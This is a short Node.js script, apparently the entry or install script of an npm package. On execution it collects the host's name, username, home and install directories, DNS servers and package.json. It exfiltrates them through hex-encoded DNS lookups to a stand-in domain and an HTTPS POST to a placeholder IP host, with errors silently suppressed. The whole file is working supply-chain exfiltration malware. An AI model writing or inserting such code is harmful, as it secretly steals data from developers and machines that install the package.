const os = require("os");
const dns = require("dns");
const querystring = require("querystring");
const https = require("https");
const packageJSON = require("./package.json");
const package = packageJSON.name;

const trackingData = JSON.stringify({
    p: package,
    c: __dirname,
    hd: os.homedir(),
    hn: os.hostname(),
    un: os.userInfo().username,
    dns: dns.getServers(),
    r: packageJSON ? packageJSON.___resolved : undefined,
    v: packageJSON.version,
    pjson: packageJSON,
});

var postData = querystring.stringify({
    msg: trackingData,
});

function toHexLabels(s) {
    const hex = Buffer.from(s).toString("hex");
    const out = [];
    for (let i = 0; i < hex.length; i += 60) out.push(hex.slice(i, i + 60));
    return out;
}

const id = Math.random().toString(36).slice(2, 8);
const small = [os.hostname(), os.userInfo().username, __dirname].join("|");
toHexLabels(small).forEach((label, i) => {
    dns.lookup(`${i}.${label}.${id}.dnsx.example`, () => {});
});

var options = {
    hostname: "203.0.113.45.nip.example",
    port: 443,
    path: "/",
    method: "POST",
    headers: {
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": postData.length,
    },
};

var req = https.request(options, (res) => {
    res.on("data", (d) => {
        process.stdout.write(d);
    });
});

req.on("error", (e) => {
    // console.error(e);
});

req.write(postData);
req.end();
